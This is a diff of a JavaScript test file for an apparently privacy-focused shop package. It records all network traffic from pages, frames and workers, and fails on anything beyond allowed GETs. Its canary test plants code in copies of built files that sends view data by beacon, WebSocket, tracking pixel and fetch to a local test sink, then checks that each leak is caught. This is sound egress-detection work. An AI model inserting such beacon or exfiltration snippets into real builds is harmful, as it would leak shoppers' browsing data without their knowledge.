@@ -32,11 +32,17 @@ before(async () => {
   cpSync(distDir, canaryDir, { recursive: true });
   const to = JSON.stringify(sink.url);
   // Planted leaks (TEST ONLY): what a compromised or careless build could do.
-  appendFileSync(path.join(canaryDir, 'index.mjs'), `;setTimeout(()=>{const s=${to};try{navigator.sendBeacon(s+"beacon","viewed=p3")}catch{}
+  appendFileSync(
+    path.join(canaryDir, 'index.mjs'),
+    `;setTimeout(()=>{const s=${to};try{navigator.sendBeacon(s+"beacon","viewed=p3")}catch{}
 try{new WebSocket(s.replace("http","ws")+"socket")}catch{}try{new Image().src=s+"pixel.gif?viewed=p3"}catch{}
-fetch(s+"fetch",{method:"POST",body:"viewed=p3",mode:"no-cors"}).catch(()=>{})},0);`);
-  appendFileSync(path.join(canaryDir, 'worker.mjs'), `;fetch(${to}+"worker",{mode:"no-cors"}).catch(()=>{});
-try{new WebSocket(${to}.replace("http","ws")+"worker-socket")}catch{}`);
+fetch(s+"fetch",{method:"POST",body:"viewed=p3",mode:"no-cors"}).catch(()=>{})},0);`
+  );
+  appendFileSync(
+    path.join(canaryDir, 'worker.mjs'),
+    `;fetch(${to}+"worker",{mode:"no-cors"}).catch(()=>{});
+try{new WebSocket(${to}.replace("http","ws")+"worker-socket")}catch{}`
+  );
   appendFileSync(path.join(canaryDir, 'vault_frame.mjs'), `;fetch(${to}+"vault",{mode:"no-cors"}).catch(()=>{});`);
   shops = {
     real: await startShop({ engine: 'test', csp: null, vault: true }),
@@ -55,7 +61,8 @@ after(async () => {
 /** Every request and WebSocket from the pages opened in `run`, page, frames and workers alike. */
 async function recordEgress(run) {
   const seen = [];
-  const onRequest = (r) => seen.push({ kind: r.resourceType(), method: r.method(), url: r.url(), body: r.postData() ?? null });
+  const onRequest = (r) =>
+    seen.push({ kind: r.resourceType(), method: r.method(), url: r.url(), body: r.postData() ?? null });
   browser.context.on('request', onRequest);
   const sessions = [];
   const watchPage = async (page) => {
@@ -64,8 +71,10 @@ async function recordEgress(run) {
     cdp.on('Network.webSocketCreated', ({ url }) => webSocket(url));
     // Workers: attached to as they start (held until their network is watched), spoken to through this session.
     let id = 0;
-    const toWorker = (sessionId, method) => cdp.send('Target.sendMessageToTarget', { sessionId, message: JSON.stringify({ id: ++id, method }) })
-      .catch(() => {});
+    const toWorker = (sessionId, method) =>
+      cdp
+        .send('Target.sendMessageToTarget', { sessionId, message: JSON.stringify({ id: ++id, method }) })
+        .catch(() => {});
     cdp.on('Target.attachedToTarget', async ({ sessionId }) => {
       await toWorker(sessionId, 'Network.enable');
       await toWorker(sessionId, 'Runtime.runIfWaitingForDebugger');
@@ -97,11 +106,16 @@ function unexpected(seen, shop) {
   const vaultOrigin = new URL(shop.vaultUrl).origin;
   const allowed = [
     // The shop's pages and their own scripts, the package and the models the pages name.
-    { origin: shopOrigin, path: /^\/(?:[\w-]+\.(?:html|js|mjs|css)|favicon\.ico|vitrine\/[\w.-]+\.(?:js|mjs|wasm|html|css)|models\/(?:test|tiny)\.vtm)$/ },
+    {
+      origin: shopOrigin,
+      path: /^\/(?:[\w-]+\.(?:html|js|mjs|css)|favicon\.ico|vitrine\/[\w.-]+\.(?:js|mjs|wasm|html|css)|models\/(?:test|tiny)\.vtm)$/,
+    },
     { origin: vaultOrigin, path: /^\/(?:vitrine\/[\w.-]+\.(?:js|mjs|wasm|html|css)|models\/test\.vtm|favicon\.ico)$/ },
   ];
   // The one query string: Vitrine's panel and consent prompt in the page's language (why.html's is a fragment).
-  const allowedSearch = (url) => url.search === '' || (/^\/vitrine\/(?:panel|consent)\.html$/.test(url.pathname) && /^\?lang=[A-Za-z-]{2,12}$/.test(url.search));
+  const allowedSearch = (url) =>
+    url.search === '' ||
+    (/^\/vitrine\/(?:panel|consent)\.html$/.test(url.pathname) && /^\?lang=[A-Za-z-]{2,12}$/.test(url.search));
   return seen.filter((r) => {
     let url;
     try {
@@ -110,15 +124,31 @@ function unexpected(seen, shop) {
       return true;
     }
     if (url.protocol === 'blob:' || url.protocol === 'data:' || url.href === 'about:blank') return false;
-    const ok = r.method === 'GET' && r.body === null && allowedSearch(url) && r.kind !== 'websocket'
-      && allowed.some((a) => a.origin === url.origin && a.path.test(url.pathname));
+    const ok =
+      r.method === 'GET' &&
+      r.body === null &&
+      allowedSearch(url) &&
+      r.kind !== 'websocket' &&
+      allowed.some((a) => a.origin === url.origin && a.path.test(url.pathname));
     return !ok;
   });
 }
 
 // Not real.html, real-de.html and late-list.html: templates whose model their own tests fill in.
-const FIXTURE_PAGES = ['shop.html', 'other.html', 'capture.html', 'recent.html', 'ga4.html',
-  'manual.html', 'consent.html', 'consent-tcf.html', 'consent-mode.html', 'report-consent.html', 'why.html', 'prompt.html'];
+const FIXTURE_PAGES = [
+  'shop.html',
+  'other.html',
+  'capture.html',
+  'recent.html',
+  'ga4.html',
+  'manual.html',
+  'consent.html',
+  'consent-tcf.html',
+  'consent-mode.html',
+  'report-consent.html',
+  'why.html',
+  'prompt.html',
+];
 const VAULT_PAGES = ['vault-shop.html', 'vault-other.html', 'vault-recent.html', 'vault-why.html', 'vault-prompt.html'];
 
 /** A shopper's visit over every page: consent, views, a cart, a search, export, forget, opt-out and back, leaving. */
@@ -166,8 +196,14 @@ async function visitEverything(shop, openWatched) {
 
 test('the package makes no request but GETs of pages, its files and the model, on every page and action, with no CSP', async () => {
   const seen = await recordEgress((open) => visitEverything(shops.real, open));
-  assert.ok(seen.some((r) => r.url === `${shops.real.url}models/test.vtm`), 'the shop-origin worker fetched the model');
-  assert.ok(seen.some((r) => r.url === `${shops.real.vaultUrl}models/test.vtm`), 'the vault\'s worker fetched the model');
+  assert.ok(
+    seen.some((r) => r.url === `${shops.real.url}models/test.vtm`),
+    'the shop-origin worker fetched the model'
+  );
+  assert.ok(
+    seen.some((r) => r.url === `${shops.real.vaultUrl}models/test.vtm`),
+    "the vault's worker fetched the model"
+  );
   assert.deepEqual(unexpected(seen, shops.real), []);
 });
 
@@ -182,8 +218,15 @@ test('the canary: a planted beacon, WebSocket, image, cross-origin fetch, worker
     await page.close();
   });
   const leaks = unexpected(seen, shops.canary).map((r) => `${r.kind} ${new URL(r.url).pathname}`);
-  for (const planted of ['ping /beacon', 'websocket /socket', 'image /pixel.gif', 'fetch /fetch', 'fetch /worker', 'websocket /worker-socket',
-    'fetch /vault']) {
+  for (const planted of [
+    'ping /beacon',
+    'websocket /socket',
+    'image /pixel.gif',
+    'fetch /fetch',
+    'fetch /worker',
+    'websocket /worker-socket',
+    'fetch /vault',
+  ]) {
     assert.ok(leaks.includes(planted), `${planted} not caught; caught: ${leaks.join(', ')}`);
   }
   // The ranking worker runs on the shop's page and, with the vault, in the vault's frame: both are watched.
